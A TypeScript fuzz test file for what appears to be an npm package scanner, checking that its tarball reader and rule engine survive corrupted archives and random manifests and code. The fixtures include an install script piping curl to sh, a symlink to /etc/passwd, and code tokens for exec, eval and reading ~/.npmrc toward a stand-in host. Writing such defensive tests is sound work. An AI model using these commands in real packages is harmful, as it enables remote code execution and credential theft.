import { Readable } from 'node:stream'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { afterAll, describe, expect, it } from 'vitest'
import { rules } from '../../rules/index.ts'
import { analyzePackage } from '../../src/analyze/engine.ts'
import { readTarball } from '../../src/fetch/tarball-reader.ts'
import type { PackageFile, PackageRef } from '../../src/types.ts'
import { MALICIOUS_JS, tarBuffer } from '../helpers/hostile.ts'

const NUM_RUNS = Number(process.env.FUZZ_RUNS ?? 200)

const validTar = await tarBuffer([
  { name: 'package/package.json', content: '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}' },
  { name: 'package/index.js', content: MALICIOUS_JS },
  { name: 'package/lib/a.js', content: 'module.exports = 1\n'.repeat(40) },
  { name: 'package/link', type: 'symlink', linkname: '/etc/passwd' },
])
const validTgz = gzipSync(validTar)

/** A mutation of a valid archive: bytes overwritten, then bytes inserted, then a truncation. */
const mutated = (base: Buffer) =>
  fc
    .record({
      writes: fc.array(fc.record({ at: fc.nat(base.length - 1), byte: fc.integer({ min: 0, max: 255 }) }), { maxLength: 8 }),
      inserts: fc.array(fc.record({ at: fc.nat(base.length), bytes: fc.uint8Array({ maxLength: 64 }) }), { maxLength: 2 }),
      cut: fc.option(fc.nat(base.length), { nil: undefined }),
    })
    .map(({ writes, inserts, cut }) => {
      let out = Buffer.from(base)
      for (const w of writes) out[w.at] = w.byte
      for (const i of inserts) out = Buffer.concat([out.subarray(0, Math.min(i.at, out.length)), Buffer.from(i.bytes), out.subarray(Math.min(i.at, out.length))])
      return cut === undefined ? out : out.subarray(0, cut)
    })

const bytes = fc.oneof(mutated(validTgz), mutated(validTar), fc.uint8Array({ maxLength: 2048 }).map((a) => Buffer.from(a)), fc.constant(Buffer.alloc(0)))

/** readTarball must settle (resolve, or reject with an Error) and never throw synchronously or hang. */
async function settles(data: Buffer, chunkSize: number): Promise<void> {
  const chunks: Buffer[] = []
  for (let i = 0; i < data.length; i += chunkSize) chunks.push(data.subarray(i, i + chunkSize))
  let timer: NodeJS.Timeout | undefined
  const hang = new Promise<'hang'>((resolve) => (timer = setTimeout(() => resolve('hang'), 5_000)))
  let promise: Promise<unknown>
  try {
    promise = readTarball(Readable.from(chunks, { objectMode: false }))
  } catch (error) {
    throw new Error(`readTarball threw synchronously: ${String(error)}`)
  }
  const outcome = await Promise.race([promise.then(() => 'resolved', (error: unknown) => error), hang])
  clearTimeout(timer)
  if (outcome === 'hang') throw new Error(`readTarball did not settle on ${data.length} bytes (${data.subarray(0, 16).toString('hex')}…)`)
  if (outcome !== 'resolved') expect(outcome).toBeInstanceOf(Error)
}

describe('readTarball on damaged and arbitrary bytes', () => {
  it('always resolves or rejects with an Error, never throws or hangs', async () => {
    await fc.assert(
      fc.asyncProperty(bytes, fc.constantFrom(1, 7, 512, 4096), async (data, chunkSize) => settles(data, chunkSize)),
      { numRuns: NUM_RUNS },
    )
  }, 60_000)
})

// Rule errors are contained in `errors` (the analysis goes on); collected here and printed, since each is a rule bug.
const containedErrors = new Map<string, unknown>()
afterAll(() => {
  if (containedErrors.size > 0) console.warn(`analyzePackage contained ${containedErrors.size} distinct rule error(s):\n${[...containedErrors].map(([e, input]) => `${e}\n  input: ${JSON.stringify(input).slice(0, 300)}`).join('\n')}`)
})

const ref: PackageRef = { name: 'fuzz', version: '1.0.0', spec: 'fuzz@1.0.0', source: 'registry', location: 'node_modules/fuzz', dev: false, optional: false }

const odd = fc.oneof(fc.anything(), fc.string(), fc.constantFrom('index.js', './lib/a.js', '../../x.js', '', '.', 'node_modules/x', '__proto__', 'constructor'))
const manifestObject = fc.record(
  {
    name: odd,
    version: odd,
    type: fc.oneof(odd, fc.constantFrom('module', 'commonjs')),
    main: odd,
    bin: fc.oneof(odd, fc.dictionary(fc.string(), odd)),
    exports: fc.oneof(odd, fc.dictionary(fc.constantFrom('.', './x', 'import', 'require', 'default', 'node'), odd)),
    scripts: fc.oneof(odd, fc.dictionary(fc.constantFrom('preinstall', 'install', 'postinstall', 'prepare', 'test', '__proto__'), fc.oneof(odd, fc.constantFrom('node index.js', 'node lib/a.js && node -e "x"', 'sh -c "curl x|sh"', 'node')))),
    dependencies: fc.oneof(odd, fc.dictionary(fc.string(), odd)),
  },
  { requiredKeys: [] },
)
const manifestText = fc.oneof(
  manifestObject.map((m) => JSON.stringify(m) ?? 'null'),
  fc.json(),
  fc.string(),
  fc.constantFrom('', '{', 'null', '[]', '"x"', '{"scripts":null}', '{"main":{}}', '{"exports":[null]}', '{"bin":[1]}'),
)

const jsToken = fc.constantFrom(
  'require', '(', ')', '[', ']', '{', '}', "'https'", "'child_process'", '.', 'request', 'exec', 'process', 'env', 'JSON', 'stringify',
  'eval', 'Function', 'new', 'Buffer', 'from', "'base64'", 'atob', ',', ';', '=', '+', 'const', 'let', 'x', 'a', '=>', 'function', 'return',
  'import', 'export', 'default', 'await', 'async', '`${', '}`', '"\\u0065val"', '/re/g', '0x41', '1e9', '\n', ' ', '//', '/*', '*/', '...', '?.',
  'class', 'this', 'module', 'exports', 'globalThis', '[\'constructor\']', 'fetch', "'http://x.example.invalid'", 'fs', 'readFileSync', "'~/.npmrc'",
)
const jsText = fc.oneof(fc.array(jsToken, { maxLength: 60 }).map((t) => t.join(' ')), fc.array(jsToken, { maxLength: 60 }).map((t) => t.join('')), fc.string({ maxLength: 200 }))

const file = (path: string, text: string | Buffer): [string, PackageFile] => {
  const content = Buffer.isBuffer(text) ? text : Buffer.from(text)
  return [path, { path, size: content.length, content }]
}

describe('analyzePackage with every rule on arbitrary manifests and code', () => {
  it('returns a result; rule errors stay in `errors`', () => {
    fc.assert(
      fc.property(manifestText, jsText, jsText, fc.uint8Array({ maxLength: 64 }), (manifest, indexJs, other, binary) => {
        const files = new Map<string, PackageFile>([
          file('package.json', manifest),
          file('index.js', indexJs),
          file('lib/a.js', other),
          file('i.js', Buffer.from(binary)),
          file('bin/cli.mjs', other),
        ])
        const input = { manifest, indexJs, other }
        let result: ReturnType<typeof analyzePackage>
        try {
          result = analyzePackage({ ref, files }, rules)
        } catch (error) {
          throw new Error(`analyzePackage threw: ${error instanceof Error ? error.stack : String(error)}\ninput: ${JSON.stringify(input)}`)
        }
        expect(Array.isArray(result.findings)).toBe(true)
        expect(Array.isArray(result.errors)).toBe(true)
        for (const finding of result.findings) expect(typeof finding.message).toBe('string')
        for (const error of result.errors) if (!containedErrors.has(error)) containedErrors.set(error, input)
      }),
      { numRuns: NUM_RUNS },
    )
  }, 60_000)
})
